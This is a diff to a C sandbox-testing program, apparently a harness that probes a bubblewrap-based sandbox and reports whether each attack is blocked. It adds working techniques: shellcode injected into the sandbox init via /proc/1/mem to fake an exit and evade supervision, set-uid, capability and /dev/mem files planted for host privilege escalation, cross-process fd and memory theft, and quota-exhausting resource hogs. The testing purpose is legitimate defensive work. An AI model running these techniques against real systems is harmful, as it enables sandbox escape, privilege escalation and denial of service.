@@ -26,7 +26,12 @@
 #include <sys/ptrace.h>
 #include <sys/socket.h>
 #include <sys/stat.h>
+#include <sys/sysmacros.h>
+#include <sys/inotify.h>
+#include <mqueue.h>
+#include <sys/xattr.h>
 #include <sys/syscall.h>
+#include <sys/uio.h>
 #include <sys/un.h>
 #include <sys/wait.h>
 #include <stddef.h>
@@ -109,6 +114,7 @@ static int dump(const char *path) {
     for (ssize_t i = 0; i < n; i++) if (buf[i] == 0 || buf[i] == '\n') buf[i] = ' ';
     buf[n > 0 ? n : 0] = 0;
     printf("DUMP %s %s\n", path, buf);
+    fflush(stdout);
     return 0;
 }
 
@@ -275,6 +281,329 @@ static int new_userns(void) {
     return errno_report("new-user-namespace", unshare(CLONE_NEWUSER));
 }
 
+/* The init's eventfd: bwrap's outer process takes "value - 1" written there
+ * as the program's exit code and exits with it. */
+static int init_eventfd(void) {
+    int evfd = -1;
+    DIR *dir = opendir("/proc/1/fd");
+    if (!dir) return -1;
+    for (struct dirent *e; (e = readdir(dir));) {
+        char link[300], target[128] = {0};
+        snprintf(link, sizeof link, "/proc/1/fd/%s", e->d_name);
+        if (readlink(link, target, sizeof target - 1) > 0 && strstr(target, "eventfd")) evfd = atoi(e->d_name);
+    }
+    closedir(dir);
+    return evfd;
+}
+
+/* Rewrites the namespace init (bwrap's pid 1) through /proc/1/mem: at the
+ * pc where its wait() returns, code that clears its parent-death signal,
+ * writes "exited 0" to the eventfd bwrap's outer process waits on, then
+ * pauses forever. A reparented orphan's exit wakes it. bwrap then exits 0
+ * while the init and this program live on. `mode` "closed" ends this
+ * program's streams (so the host's readers see EOF); "open" keeps them. */
+static int fake_exit(const char *mode) {
+#if defined(__x86_64__)
+    int evfd = init_eventfd();
+    if (evfd < 0) return report("fake-exit", 1, "no eventfd readable in the init");
+    unsigned long nr, arg[6], sp, pc;
+    int fields = 0;
+    /* Until the init is blocked in its wait() ("running" while it starts up). */
+    for (int tries = 0; tries < 500 && fields != 9; tries++) {
+        FILE *sys = fopen("/proc/1/syscall", "r");
+        if (!sys) return errno_report("fake-exit", -1);
+        fields = fscanf(sys, "%lu %lx %lx %lx %lx %lx %lx %lx %lx", &nr, &arg[0], &arg[1], &arg[2], &arg[3], &arg[4], &arg[5], &sp, &pc);
+        fclose(sys);
+        if (fields != 9) usleep(10000);
+    }
+    if (fields != 9) return report("fake-exit", 1, "the init is not blocked in a call");
+    unsigned char code[] = {
+        0xbf, 0x01, 0, 0, 0,          /* mov edi, PR_SET_PDEATHSIG */
+        0x31, 0xf6,                   /* xor esi, esi */
+        0xb8, 0x9d, 0, 0, 0,          /* mov eax, SYS_prctl */
+        0x0f, 0x05,                   /* syscall */
+        0x6a, 0x01,                   /* push 1 ("exit code 0") */
+        0xbf, 0, 0, 0, 0,             /* mov edi, evfd (patched) */
+        0x48, 0x89, 0xe6,             /* mov rsi, rsp */
+        0xba, 0x08, 0, 0, 0,          /* mov edx, 8 */
+        0xb8, 0x01, 0, 0, 0,          /* mov eax, SYS_write */
+        0x0f, 0x05,                   /* syscall */
+        0xb8, 0x22, 0, 0, 0,          /* loop: mov eax, SYS_pause */
+        0x0f, 0x05,                   /* syscall */
+        0xeb, 0xf7,                   /* jmp loop */
+    };
+    memcpy(code + 17, &evfd, 4);
+    int mem = open("/proc/1/mem", O_RDWR);
+    if (mem < 0) return errno_report("fake-exit", -1);
+    if (pwrite(mem, code, sizeof code, (off_t)pc) != (ssize_t)sizeof code) return errno_report("fake-exit", -1);
+    close(mem);
+    pid_t middle = fork();
+    if (middle == 0) {
+        if (fork() == 0) { usleep(100000); _exit(0); } /* orphaned to the init, then exits */
+        _exit(0);
+    }
+    waitpid(middle, NULL, 0);
+    report("fake-exit", 1, "init rewritten; the host checks that nothing outlives wait()");
+    if (!strcmp(mode, "closed")) {
+        int null = open("/dev/null", O_RDWR);
+        dup2(null, 1);
+        dup2(null, 2);
+        close(3);
+    }
+    for (;;) pause();
+#else
+    (void)mode;
+    return report("fake-exit", 1, "no shellcode for this architecture");
+#endif
+}
+
+/* Take the init's eventfd with pidfd_getfd: the reach of ptrace without it. */
+static int pidfd_getfd_init(void) {
+    int evfd = init_eventfd();
+    if (evfd < 0) return report("pidfd-getfd", 1, "no eventfd readable in the init");
+    int pidfd = syscall(SYS_pidfd_open, 1, 0);
+    if (pidfd < 0) return errno_report("pidfd-getfd", -1);
+    return errno_report("pidfd-getfd", syscall(SYS_pidfd_getfd, pidfd, evfd, 0));
+}
+
+/* Read the init's memory with process_vm_readv (its stack, from /proc). */
+static int vm_read_init(void) {
+    char buf[16];
+    unsigned long nr, arg[6], sp = 0, pc;
+    FILE *sys = fopen("/proc/1/syscall", "r");
+    if (sys) {
+        if (fscanf(sys, "%lu %lx %lx %lx %lx %lx %lx %lx %lx", &nr, &arg[0], &arg[1], &arg[2], &arg[3], &arg[4], &arg[5], &sp, &pc) != 9) sp = 0;
+        fclose(sys);
+    }
+    if (!sp) return report("process-vm-readv", 1, "no stack pointer of the init");
+    struct iovec local = {buf, sizeof buf}, remote = {(void *)sp, sizeof buf};
+    return errno_report("process-vm-readv", syscall(SYS_process_vm_readv, 1, &local, 1, &remote, 1, 0));
+}
+
+/* Leaves the hardest tree it can for the host to remove, in the current
+ * directory: a 000-mode and a 0555 directory with content, a FIFO, a bound
+ * socket, symlinks to / and .., a hardlink, 1000 files side by side, then
+ * `mkdir d; chdir d` `levels` times. */
+static int litter(const char *levels) {
+    mkdir("locked", 0755); mkdir("locked/inner", 0755);
+    close(open("locked/inner/file", O_WRONLY | O_CREAT, 0644));
+    chmod("locked", 0);
+    mkdir("readonly", 0755); mkdir("readonly/sub", 0755);
+    close(open("readonly/sub/file", O_WRONLY | O_CREAT, 0644));
+    chmod("readonly/sub", 0555); chmod("readonly", 0555);
+    mkfifo("fifo", 0600);
+    int sock = socket(AF_UNIX, SOCK_STREAM, 0);
+    struct sockaddr_un addr = {.sun_family = AF_UNIX, .sun_path = "sock"};
+    bind(sock, (void *)&addr, sizeof addr);
+    symlink("/", "to-root"); symlink("..", "to-parent");
+    close(open("file", O_WRONLY | O_CREAT, 0644)); link("file", "hardlink");
+    mkdir("wide", 0755);
+    for (int i = 0; i < 1000; i++) {
+        char name[32];
+        snprintf(name, sizeof name, "wide/%d", i);
+        close(open(name, O_WRONLY | O_CREAT, 0644));
+    }
+    int n = atoi(levels), made = 0;
+    for (; made < n; made++) if (mkdir("d", 0755) != 0 || chdir("d") != 0) break;
+    char detail[64];
+    snprintf(detail, sizeof detail, "nested=%d", made);
+    return report("litter", 1, detail); /* the host judges its teardown */
+}
+
+/* Fill each directory with 1 MiB writes until an error (at most 512 MiB
+ * each, far beyond any bound cordon plans): one RESULT per directory,
+ * blocked iff the error was ENOSPC. */
+static int fill_dirs(int count, char **dirs) {
+    signal(SIGXFSZ, SIG_IGN);
+    static char block[1 << 20];
+    memset(block, 'z', sizeof block);
+    for (int i = 0; i < count; i++) {
+        unsigned long long total = 0;
+        int err = 0;
+        for (int file = 0; !err && total < (512ULL << 20); file++) {
+            char path[512];
+            snprintf(path, sizeof path, "%s/fill-%d", dirs[i], file);
+            int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
+            if (fd < 0) { err = errno; break; }
+            for (int mib = 0; mib < 32 && total < (512ULL << 20); mib++) {
+                ssize_t n = write(fd, block, sizeof block);
+                if (n < 0) { err = errno; break; }
+                total += n;
+            }
+            close(fd);
+        }
+        char attack[300], detail[128];
+        snprintf(attack, sizeof attack, "fill:%s", dirs[i]);
+        snprintf(detail, sizeof detail, "wrote=%lluMiB then %s", total >> 20, err ? strerror(err) : "no error");
+        report(attack, err == ENOSPC, detail);
+    }
+    return 0;
+}
+
+/* Plant set-uid/set-gid files in `dir` (a host-visible workspace) by every
+ * call that sets a mode. Blocked if each call failed and no file there has
+ * a set-id bit; a plain chmod 0755 must still work (the filter is narrow). */
+static int setid_files(const char *dir) {
+    char path[512], detail[512] = "", copy[512];
+    int worked = 0;
+    snprintf(copy, sizeof copy, "%s/copy", dir);
+    int in = open("/proc/self/exe", O_RDONLY), out = open(copy, O_WRONLY | O_CREAT | O_TRUNC, 0755);
+    char buf[65536];
+    for (ssize_t n; in >= 0 && out >= 0 && (n = read(in, buf, sizeof buf)) > 0;) if (write(out, buf, n) != n) break;
+#define TRY(name, call) do { errno = 0; long rc_ = (call); if (rc_ >= 0) { worked++; strncat(detail, name "=ok ", sizeof detail - strlen(detail) - 1); } \
+    else { char e_[48]; snprintf(e_, sizeof e_, "%s=%d ", name, errno); strncat(detail, e_, sizeof detail - strlen(detail) - 1); } } while (0)
+    TRY("chmod", chmod(copy, 06755));
+    TRY("fchmod", fchmod(out, 04755));
+    TRY("fchmodat", fchmodat(AT_FDCWD, copy, 02755, 0));
+    TRY("fchmodat2", syscall(452, AT_FDCWD, copy, 06755, 0));
+    snprintf(path, sizeof path, "%s/open", dir);
+    TRY("open", syscall(SYS_open, path, O_WRONLY | O_CREAT, 06755));
+    snprintf(path, sizeof path, "%s/openat", dir);
+    TRY("openat", openat(AT_FDCWD, path, O_WRONLY | O_CREAT, 04755));
+    snprintf(path, sizeof path, "%s/creat", dir);
+    TRY("creat", syscall(SYS_creat, path, 02755));
+    snprintf(path, sizeof path, "%s/mknod", dir);
+    TRY("mknod", mknod(path, S_IFREG | 06755, 0));
+    snprintf(path, sizeof path, "%s/mkdir", dir);
+    TRY("mkdir", mkdir(path, 02755));
+    /* openat2(dirfd, path, struct open_how {flags, mode, resolve}, size). */
+    unsigned long long how[3] = {O_WRONLY | O_CREAT, 06755, 0};
+    snprintf(path, sizeof path, "%s/openat2", dir);
+    TRY("openat2", syscall(SYS_openat2, AT_FDCWD, path, how, sizeof how));
+    /* Whatever the calls said, nothing in dir may carry a set-id bit. */
+    DIR *d = opendir(dir);
+    for (struct dirent *e; d && (e = readdir(d));) {
+        struct stat st;
+        snprintf(path, sizeof path, "%s/%s", dir, e->d_name);
+        if (lstat(path, &st) == 0 && (st.st_mode & (S_ISUID | S_ISGID))) {
+            worked++;
+            strncat(detail, "setid-file ", sizeof detail - strlen(detail) - 1);
+        }
+    }
+    int plain = chmod(copy, 0755);
+    strncat(detail, plain == 0 ? "plain-chmod=ok" : "plain-chmod=failed", sizeof detail - strlen(detail) - 1);
+    return report("setid-files", worked == 0 && plain == 0, detail);
+}
+
+/* Other privileged files a host user could use: file capabilities
+ * (security.capability, v2: cap_setuid permitted+effective) and device
+ * nodes (a block or char device readable by anyone). Blocked if neither can
+ * be made and the file carries no capability afterwards. */
+static int privileged_files(const char *dir) {
+    char file[512], node[512], detail[256];
+    snprintf(file, sizeof file, "%s/capfile", dir);
+    snprintf(node, sizeof node, "%s/mem", dir);
+    int fd = open(file, O_WRONLY | O_CREAT | O_TRUNC, 0755);
+    if (fd >= 0) close(fd);
+    /* struct vfs_cap_data v2: magic_etc, {permitted, inheritable} x 2 */
+    unsigned int cap[5] = {0x02000000 | 1 /* VFS_CAP_REVISION_2 | effective */, 1u << 7 /* CAP_SETUID */, 0, 0, 0};
+    int xattr = setxattr(file, "security.capability", cap, sizeof cap, 0);
+    int xattr_errno = errno;
+    char back[64];
+    long present = getxattr(file, "security.capability", back, sizeof back);
+    int dev = mknod(node, S_IFCHR | 0666, makedev(1, 1)); /* /dev/mem */
+    int dev_errno = errno;
+    snprintf(detail, sizeof detail, "setxattr=%s getxattr=%s mknod-chr=%s",
+             xattr == 0 ? "ok" : strerror(xattr_errno), present >= 0 ? "present" : "absent",
+             dev == 0 ? "ok" : strerror(dev_errno));
+    return report("privileged-files", fd >= 0 && xattr != 0 && present < 0 && dev != 0, detail);
+}
+
+/* Every mount in the sandbox is nosuid (a set-id file bound in from the host
+ * would not raise privileges). */
+static int mounts_nosuid(void) {
+    FILE *f = fopen("/proc/self/mountinfo", "r");
+    char line[1024];
+    int mounts = 0, suid = 0;
+    char first[256] = "";
+    while (f && fgets(line, sizeof line, f)) {
+        mounts++;
+        /* field 6 holds the per-mount options */
+        char *p = line;
+        for (int field = 0; field < 5 && p; field++) p = strchr(p + 1, ' ');
+        char options[256] = "";
+        if (p) sscanf(p + 1, "%255s", options);
+        if (!strstr(options, "nosuid")) {
+            suid++;
+            if (!first[0]) snprintf(first, sizeof first, "%.200s", line);
+        }
+    }
+    char detail[320];
+    snprintf(detail, sizeof detail, "mounts=%d without-nosuid=%d %s", mounts, suid, first);
+    for (char *c = detail; *c; c++) if (*c == '\n') *c = ' ';
+    return report("mounts-nosuid", f && mounts > 0 && suid == 0, detail);
+}
+
+/* Take every inotify instance this uid may have, report, then hold them. */
+static __attribute__((noreturn)) void inotify_hog(void) {
+    int held = 0;
+    while (inotify_init1(IN_CLOEXEC) >= 0) held++;
+    char detail[64];
+    snprintf(detail, sizeof detail, "held=%d then %s", held, strerror(errno));
+    report("inotify-hog", 1, detail);
+    for (;;) pause();
+}
+
+/* POSIX message queues: take the uid's whole RLIMIT_MSGQUEUE byte quota
+ * (queues are per ipc namespace, the byte quota per host uid), then hold. */
+static __attribute__((noreturn)) void mqueue_hog(void) {
+    struct mq_attr attr = {.mq_maxmsg = 10, .mq_msgsize = 8192};
+    int held = 0;
+    for (; held < 10000; held++) {
+        char name[32];
+        snprintf(name, sizeof name, "/hog-%d", held);
+        if (mq_open(name, O_CREAT | O_RDWR, 0600, &attr) < 0) break;
+    }
+    char detail[64];
+    snprintf(detail, sizeof detail, "held=%d then %s", held, strerror(errno));
+    report("mqueue-hog", 1, detail);
+    for (;;) pause();
+}
+
+/* Starvation by a neighbour is blocked when this sandbox still gets a queue. */
+static int mqueue_available(void) {
+    struct mq_attr attr = {.mq_maxmsg = 10, .mq_msgsize = 8192};
+    mqd_t q = mq_open("/mine", O_CREAT | O_RDWR, 0600, &attr);
+    return report("mqueue-available", q >= 0, q >= 0 ? "got a queue" : strerror(errno));
+}
+
+/* Pipe buffer pages are counted per host uid (fs.pipe-user-pages-soft):
+ * past the soft limit every new pipe of that uid gets one page instead of
+ * sixteen. Ten children each fill their descriptor table with pipes, then
+ * report whether their last pipe was shrunk; the hog then holds them. */
+static __attribute__((noreturn)) void pipe_hog(void) {
+    int status[2];
+    if (pipe(status) != 0) { report("pipe-hog", 0, "no status pipe"); for (;;) pause(); }
+    for (int child = 0; child < 10; child++) {
+        if (fork() == 0) {
+            int fds[2], size = 0, pipes = 0;
+            while (pipe(fds) == 0) { size = fcntl(fds[1], F_GETPIPE_SZ); pipes++; }
+            char verdict = size > 0 && size < 65536 ? 'r' : 'f';
+            if (write(status[1], &verdict, 1) != 1) _exit(1);
+            for (;;) pause();
+        }
+    }
+    int reduced = 0;
+    for (int i = 0; i < 10; i++) {
+        char verdict;
+        if (read(status[0], &verdict, 1) != 1) break;
+        reduced += verdict == 'r';
+    }
+    char detail[64];
+    snprintf(detail, sizeof detail, "children_with_shrunk_pipes=%d", reduced);
+    report("pipe-hog", 1, detail);
+    for (;;) pause();
+}
+
+/* Starvation by a neighbour is blocked when a new pipe has its full size. */
+static int pipe_available(void) {
+    int fds[2];
+    int size = pipe(fds) == 0 ? fcntl(fds[1], F_GETPIPE_SZ) : -1;
+    char detail[64];
+    snprintf(detail, sizeof detail, "pipe_size=%d", size);
+    return report("pipe-available", size >= 65536, detail);
+}
+
 int main(int argc, char **argv) {
     const char *a = argc > 1 ? argv[1] : "";
     const char *arg = argc > 2 ? argv[2] : "";
@@ -304,7 +633,26 @@ int main(int argc, char **argv) {
     if (!strcmp(a, "identity")) return identity();
     if (!strcmp(a, "new-user-namespace")) return new_userns();
     if (!strcmp(a, "list")) return list_dir(arg);
+    if (!strcmp(a, "setid-files")) return setid_files(arg);
+    if (!strcmp(a, "fill")) return fill_dirs(argc - 2, argv + 2);
+    if (!strcmp(a, "mounts-nosuid")) return mounts_nosuid();
+    if (!strcmp(a, "privileged-files")) return privileged_files(arg);
+    if (!strcmp(a, "inotify-hog")) inotify_hog();
+    if (!strcmp(a, "mqueue-hog")) mqueue_hog();
+    if (!strcmp(a, "mqueue-available")) return mqueue_available();
+    if (!strcmp(a, "pipe-hog")) pipe_hog();
+    if (!strcmp(a, "pipe-available")) return pipe_available();
+    /* Starvation by a neighbour is blocked when this sandbox still gets one. */
+    if (!strcmp(a, "inotify-available")) {
+        int fd = inotify_init1(IN_CLOEXEC);
+        return report("inotify-available", fd >= 0, fd >= 0 ? "got an instance" : strerror(errno));
+    }
     if (!strcmp(a, "dump")) return dump(arg);
+    if (!strcmp(a, "dump-then-hang")) { dump(arg); for (;;) pause(); }
+    if (!strcmp(a, "pidfd-getfd")) return pidfd_getfd_init();
+    if (!strcmp(a, "process-vm-readv")) return vm_read_init();
+    if (!strcmp(a, "litter")) { litter(arg); if (argc > 3) for (;;) pause(); return 0; }
+    if (!strcmp(a, "fake-exit")) return fake_exit(arg);
     if (!strcmp(a, "hang")) { report("hang", 1, "started"); for (;;) pause(); }
     if (!strcmp(a, "write-then-hang")) { write_path(arg, arg); for (;;) pause(); }
     if (!strcmp(a, "exit")) return atoi(arg);
